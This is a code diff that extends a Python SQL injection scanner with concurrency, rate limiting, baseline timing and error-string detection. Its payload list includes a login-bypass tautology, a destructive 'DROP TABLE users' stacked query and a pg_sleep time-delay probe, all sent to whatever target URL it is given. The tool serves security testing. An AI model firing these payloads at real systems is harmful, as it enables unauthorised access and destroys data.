@@ -1,20 +1,121 @@
 """
 Dynamic SQL injection tester. Cross-platform; uses requests with timeouts.
+Probes can run concurrently on a thread pool with per-host limits; results are
+always returned in the serial order (parameter by parameter, then payload order).
+Payloads are scheduled cheapest-first against a cached per-endpoint baseline,
+and a parameter's remaining payloads are skipped once it is confirmed.
+Response bodies are streamed and inspected up to a byte cap; the connection is
+dropped as soon as an error indicator shows up.
 """
+import codecs
 import re
-from typing import List, Dict, Any, Optional
-from urllib.parse import urljoin
+import statistics
+import threading
+import time
+from concurrent.futures import Future, ThreadPoolExecutor, as_completed
+from contextlib import contextmanager
+from typing import List, Dict, Any, Iterable, Iterator, NamedTuple, Optional, Set, Tuple
+from urllib.parse import urljoin, urlsplit
 
 import requests
+from requests.adapters import HTTPAdapter
+
+from sqlbase.throttle import HostThrottle
+
+# Error-based indicators (cross-DB common messages)
+ERROR_INDICATORS = (
+    "sql syntax",
+    "syntax error",
+    "mysql_fetch",
+    "pg_query",
+    "sqlite_",
+    "ora-01",
+    "unclosed quotation",
+    "quoted string not properly terminated",
+    "unexpected end of sql",
+    "warning: mysql",
+    "valid mysql result",
+    "myisam",
+    "mysqli",
+    "postgresql",
+    "sqlstate",
+)
+_INDICATOR_RE = re.compile("|".join(re.escape(i) for i in ERROR_INDICATORS), re.I)
+# Carried between chunks so an indicator split across a boundary still matches.
+_INDICATOR_OVERLAP = max(len(i) for i in ERROR_INDICATORS) - 1
+INSPECT_CHUNK = 16 * 1024
+MAX_INSPECT_BYTES = 1024 * 1024
+_SLEEP_RE = re.compile(r"(?:pg_sleep|sleep)\s*\(\s*(\d+(?:\.\d+)?)\s*\)", re.I)
+_WAITFOR_RE = re.compile(r"waitfor\s+delay\s+'(\d+):(\d+):(\d+(?:\.\d+)?)'", re.I)
+# A time-based probe is confirmed when its latency exceeds the baseline mean by
+# this many standard deviations and by at least half the injected delay.
+DELAY_Z = 4.0
+
+
+def payload_delay(payload: str) -> Optional[float]:
+    """Seconds a time-based payload asks the database to sleep, or None."""
+    m = _SLEEP_RE.search(payload)
+    if m:
+        return float(m.group(1))
+    m = _WAITFOR_RE.search(payload)
+    if m:
+        return int(m.group(1)) * 3600 + int(m.group(2)) * 60 + float(m.group(3))
+    return None
+
+
+def schedule_payloads(payloads: Iterable[str]) -> List[str]:
+    """Cheapest first: instant payloads in their given order, then time-based ones by delay."""
+    return sorted(payloads, key=lambda p: payload_delay(p) or 0.0)
+
+
+class Baseline(NamedTuple):
+    status_code: int
+    latency_mean: float
+    latency_stdev: float
+    indicators: frozenset
+
+
+Task = Tuple[int, str, str, Dict[str, str], Dict[str, str], str, List[str]]
 
 
 class DynamicSQLiTester:
-    def __init__(self, target_url: str, timeout: float = 10.0, verify_ssl: bool = True) -> None:
+    def __init__(
+        self,
+        target_url: str,
+        timeout: float = 10.0,
+        verify_ssl: bool = True,
+        concurrency: int = 1,
+        per_host: Optional[int] = None,
+        rate: Optional[float] = None,
+        burst: Optional[float] = None,
+        stop_on_confirm: bool = True,
+        baseline_samples: int = 3,
+        stream_responses: bool = True,
+        max_inspect_bytes: Optional[int] = MAX_INSPECT_BYTES,
+    ) -> None:
+        """
+        concurrency: requests in flight overall; per_host: in flight per host;
+        rate/burst: token-bucket limit in requests per second per host.
+        stop_on_confirm: skip a parameter's remaining payloads once one hits.
+        baseline_samples: unmodified requests timed per endpoint and method.
+        stream_responses: read bodies in chunks instead of buffering them;
+        max_inspect_bytes: body bytes inspected per response (None: all).
+        """
         self.target_url = target_url.rstrip("/")
         self.timeout = timeout
         self.verify_ssl = verify_ssl
+        self.concurrency = max(1, concurrency)
+        self.stop_on_confirm = stop_on_confirm
+        self.baseline_samples = max(0, baseline_samples)
+        self.stream_responses = stream_responses
+        self.max_inspect_bytes = max_inspect_bytes
+        self.throttle = HostThrottle(per_host=per_host, rate=rate, burst=burst)
         self.session = requests.Session()
         self.session.verify = verify_ssl
+        # One pooled connection per worker, so no connection is discarded and reopened.
+        adapter = HTTPAdapter(pool_connections=max(10, self.concurrency), pool_maxsize=self.concurrency)
+        self.session.mount("http://", adapter)
+        self.session.mount("https://", adapter)
         self.payloads = [
             "' OR '1'='1",
             "'; DROP TABLE users; --",
@@ -25,32 +126,221 @@ class DynamicSQLiTester:
             "' OR 1=1--",
             "1; SELECT pg_sleep(5)--",
         ]
+        self.baselines: Dict[Tuple[str, str], Optional[Baseline]] = {}
+        self.stats: Dict[str, int] = {"planned": 0, "requests": 0, "baseline_requests": 0, "skipped": 0, "errors": 0}
+        self._lock = threading.Lock()
+        self._baseline_locks: Dict[Tuple[str, str], threading.Lock] = {}
 
-    def is_vulnerable(self, response: requests.Response, param: str, payload: str) -> bool:
-        text = (response.text or "").lower()
-        # Error-based indicators (cross-DB common messages)
-        error_indicators = [
-            "sql syntax",
-            "syntax error",
-            "mysql_fetch",
-            "pg_query",
-            "sqlite_",
-            "ora-01",
-            "unclosed quotation",
-            "quoted string not properly terminated",
-            "unexpected end of sql",
-            "warning: mysql",
-            "valid mysql result",
-            "myisam",
-            "mysqli",
-            "postgresql",
-            "sqlstate",
-        ]
-        for indicator in error_indicators:
-            if indicator in text:
-                return True
-        # Optional: compare with baseline (no payload) response length/content
-        return False
+    def _iter_text(self, response: requests.Response) -> Iterator[str]:
+        """Decoded body chunks, stopping after max_inspect_bytes or a broken read."""
+        try:
+            decoder = codecs.getincrementaldecoder(response.encoding or "utf-8")(errors="replace")
+        except LookupError:
+            decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
+        budget = self.max_inspect_bytes
+        try:
+            for chunk in response.iter_content(chunk_size=INSPECT_CHUNK):
+                if budget is not None:
+                    chunk = chunk[:budget]
+                    budget -= len(chunk)
+                yield decoder.decode(chunk)
+                if budget is not None and budget <= 0:
+                    return
+        except requests.RequestException:
+            return
+        yield decoder.decode(b"", final=True)
+
+    def find_indicators(
+        self, response: requests.Response, ignore: frozenset = frozenset(), first: bool = True
+    ) -> Set[str]:
+        """
+        Error indicators in the body, except those in `ignore`. With `first`,
+        reading stops at the first one. The response is closed either way, so an
+        unfinished body drops the connection instead of being downloaded.
+        """
+        found: Set[str] = set()
+        tail = ""
+        try:
+            for text in self._iter_text(response):
+                window = tail + text
+                for m in _INDICATOR_RE.finditer(window):
+                    indicator = m.group().lower()
+                    if indicator not in ignore:
+                        found.add(indicator)
+                        if first:
+                            return found
+                tail = window[-_INDICATOR_OVERLAP:]
+        finally:
+            response.close()
+        return found
+
+    def is_vulnerable(
+        self, response: requests.Response, param: str, payload: str, baseline: Optional[Baseline] = None
+    ) -> bool:
+        # An indicator the unmodified page already contains proves nothing.
+        return bool(self.find_indicators(response, baseline.indicators if baseline is not None else frozenset()))
+
+    def delay_threshold(self, delay: float, baseline: Optional[Baseline]) -> float:
+        """Latency above which a probe injecting `delay` seconds counts as delayed."""
+        if baseline is None:
+            return delay * 0.8
+        return baseline.latency_mean + max(DELAY_Z * baseline.latency_stdev, delay * 0.5)
+
+    def summary(self) -> str:
+        s = self.stats
+        saved = s["planned"] - s["requests"]
+        pct = 100.0 * saved / s["planned"] if s["planned"] else 0.0
+        return (
+            f"tester: {s['requests']} of {s['planned']} planned probes sent, {saved} saved ({pct:.0f}%), "
+            f"{s['skipped']} skipped after confirmation, {s['baseline_requests']} baseline requests, "
+            f"{s['errors']} failed requests"
+        )
+
+    def _count(self, key: str, amount: int = 1) -> None:
+        with self._lock:
+            self.stats[key] += amount
+
+    def resolve_url(self, endpoint: str) -> str:
+        return endpoint if endpoint.startswith("http") else urljoin(self.target_url + "/", endpoint)
+
+    @contextmanager
+    def _request(
+        self, url: str, method: str, params: Dict[str, str], headers: Dict[str, str], timeout: Any
+    ) -> Iterator[Tuple[requests.Response, float]]:
+        """
+        (response, latency) of one request. The host's slot is held until the
+        block exits, so a streamed body is read within the per-host limit; the
+        response is closed on exit.
+        """
+        with self.throttle.slot(urlsplit(url).netloc):
+            start = time.perf_counter()
+            if method.upper() == "POST":
+                response = self.session.post(
+                    url, data=params, headers=headers, timeout=timeout, stream=self.stream_responses
+                )
+            else:
+                response = self.session.get(
+                    url, params=params, headers=headers, timeout=timeout, stream=self.stream_responses
+                )
+            try:
+                yield response, time.perf_counter() - start
+            finally:
+                response.close()
+
+    def _baseline(
+        self, url: str, method: str, params: Dict[str, str], headers: Dict[str, str]
+    ) -> Tuple[Optional[Baseline], int]:
+        """The cached baseline, and the failed requests if this call measured it."""
+        key = (url, method.upper())
+        if key in self.baselines:
+            return self.baselines[key], 0
+        with self._lock:
+            lock = self._baseline_locks.setdefault(key, threading.Lock())
+        errors = 0
+        with lock:
+            if key not in self.baselines:
+                self.baselines[key], errors = self._measure_baseline(url, method, params, headers)
+        return self.baselines[key], errors
+
+    def _measure_baseline(
+        self, url: str, method: str, params: Dict[str, str], headers: Dict[str, str]
+    ) -> Tuple[Optional[Baseline], int]:
+        baseline: Optional[Baseline] = None
+        errors = 0
+        latencies: List[float] = []
+        indicators: Set[str] = set()
+        status_code = None
+        try:
+            for _ in range(self.baseline_samples):
+                self._count("baseline_requests")
+                with self._request(url, method, params, headers, self.timeout) as (response, elapsed):
+                    latencies.append(elapsed)
+                    indicators |= self.find_indicators(response, first=False)
+                    status_code = response.status_code
+        except requests.RequestException:
+            errors = 1
+            self._count("errors")
+        if status_code is not None:
+            baseline = Baseline(
+                status_code=status_code,
+                latency_mean=statistics.fmean(latencies),
+                latency_stdev=statistics.stdev(latencies) if len(latencies) > 1 else 0.0,
+                indicators=frozenset(indicators),
+            )
+        return baseline, errors
+
+    def _tasks(
+        self,
+        index: int,
+        endpoint: str,
+        params: Dict[str, str],
+        method: str = "POST",
+        headers: Optional[Dict[str, str]] = None,
+    ) -> List[Task]:
+        url = self.resolve_url(endpoint)
+        headers = headers or {"Content-Type": "application/x-www-form-urlencoded"}
+        payloads = schedule_payloads(self.payloads)
+        self._count("planned", len(params) * len(payloads))
+        if self.stop_on_confirm:
+            return [(index, url, method, params, headers, param, payloads) for param in params]
+        # Without early termination every probe is independent.
+        return [(index, url, method, params, headers, param, [p]) for param in params for p in payloads]
+
+    def _probe(
+        self, url: str, method: str, params: Dict[str, str], headers: Dict[str, str],
+        param: str, payload: str, baseline: Optional[Baseline],
+    ) -> Optional[Dict[str, Any]]:
+        """The finding for one payload, or None. Failed requests raise RequestException."""
+        test_params = dict(params)
+        test_params[param] = payload
+        delay = payload_delay(payload)
+        threshold = self.delay_threshold(delay, baseline) if delay is not None else None
+        timeout: Any = self.timeout
+        if threshold is not None and threshold <= self.timeout:
+            # A response slower than the threshold is already a hit: stop
+            # waiting there instead of sitting out the whole injected delay.
+            timeout = (self.timeout, threshold)
+        self._count("requests")
+        try:
+            with self._request(url, method, test_params, headers, timeout) as (response, elapsed):
+                vulnerable = self.is_vulnerable(response, param, payload, baseline)
+                status_code = response.status_code
+        except requests.ReadTimeout:
+            if timeout == self.timeout:
+                raise
+            vulnerable, status_code, elapsed = False, None, threshold
+        if vulnerable:
+            technique = "error"
+        elif threshold is not None and elapsed >= threshold:
+            technique = "time"
+        else:
+            return None
+        return {
+            "parameter": param,
+            "payload": payload,
+            "endpoint": url,
+            "status_code": status_code,
+            "technique": technique,
+        }
+
+    def _run_task(self, task: Task) -> Tuple[List[Dict[str, Any]], int]:
+        """Findings of one task and the number of its requests that failed."""
+        _index, url, method, params, headers, param, payloads = task
+        baseline, errors = self._baseline(url, method, params, headers) if self.baseline_samples else (None, 0)
+        found: List[Dict[str, Any]] = []
+        for n, payload in enumerate(payloads):
+            try:
+                hit = self._probe(url, method, params, headers, param, payload, baseline)
+            except requests.RequestException:
+                errors += 1
+                self._count("errors")
+                continue
+            if hit is not None:
+                found.append(hit)
+                if self.stop_on_confirm:
+                    self._count("skipped", len(payloads) - n - 1)
+                    break
+        return found, errors
 
     def test_endpoint(
         self,
@@ -59,30 +349,55 @@ class DynamicSQLiTester:
         method: str = "POST",
         headers: Optional[Dict[str, str]] = None,
     ) -> List[Dict[str, Any]]:
-        vulnerabilities: List[Dict[str, Any]] = []
-        url = endpoint if endpoint.startswith("http") else urljoin(self.target_url + "/", endpoint)
-        headers = headers or {"Content-Type": "application/x-www-form-urlencoded"}
+        return self.test_endpoints([{"endpoint": endpoint, "params": params, "method": method, "headers": headers}])[0]
+
+    def test_endpoints(self, endpoints: Iterable[Dict[str, Any]]) -> List[List[Dict[str, Any]]]:
+        """
+        Test several endpoints on one shared pool. Each item has "endpoint" and
+        "params", optionally "method" and "headers"; one result list per item.
+        """
+        endpoints = list(endpoints)
+        results: List[List[Dict[str, Any]]] = [[] for _ in endpoints]
+        for index, found, _errors in self.iter_test_endpoints(endpoints):
+            results[index] = found
+        return results
 
-        for param in params:
-            for payload in self.payloads:
-                test_params = dict(params)
-                test_params[param] = payload
-                try:
-                    if method.upper() == "POST":
-                        response = self.session.post(
-                            url, data=test_params, headers=headers, timeout=self.timeout
-                        )
-                    else:
-                        response = self.session.get(
-                            url, params=test_params, headers=headers, timeout=self.timeout
-                        )
-                    if self.is_vulnerable(response, param, payload):
-                        vulnerabilities.append({
-                            "parameter": param,
-                            "payload": payload,
-                            "endpoint": url,
-                            "status_code": response.status_code,
-                        })
-                except requests.RequestException:
-                    continue
-        return vulnerabilities
+    def iter_test_endpoints(
+        self, endpoints: Iterable[Dict[str, Any]]
+    ) -> Iterator[Tuple[int, List[Dict[str, Any]], int]]:
+        """
+        Yield (index, findings, failed requests) for each endpoint as soon as
+        all of its probes are done. Findings of one endpoint are in the same
+        order as serially; an endpoint with failed requests was not fully tested.
+        """
+        plans: List[List[Task]] = []
+        for index, spec in enumerate(endpoints):
+            plans.append(self._tasks(
+                index, spec["endpoint"], spec.get("params", {}), spec.get("method", "POST"), spec.get("headers")
+            ))
+        workers = min(self.concurrency, sum(len(plan) for plan in plans))
+        if workers <= 1:
+            for index, plan in enumerate(plans):
+                results = [self._run_task(task) for task in plan]
+                yield index, [hit for found, _errors in results for hit in found], sum(e for _found, e in results)
+            return
+        pool = ThreadPoolExecutor(max_workers=workers)
+        try:
+            futures: Dict[Future, Tuple[int, int]] = {}
+            remaining = [len(plan) for plan in plans]
+            done: List[List[Optional[Tuple[List[Dict[str, Any]], int]]]] = [[None] * len(plan) for plan in plans]
+            for index, plan in enumerate(plans):
+                if not plan:
+                    yield index, [], 0
+                for n, task in enumerate(plan):
+                    futures[pool.submit(self._run_task, task)] = (index, n)
+            for future in as_completed(futures):
+                index, n = futures.pop(future)
+                done[index][n] = future.result()
+                remaining[index] -= 1
+                if remaining[index] == 0:
+                    results = [r for r in done[index] if r is not None]
+                    yield index, [hit for found, _errors in results for hit in found], sum(e for _found, e in results)
+                    done[index] = []
+        finally:
+            pool.shutdown(wait=True, cancel_futures=True)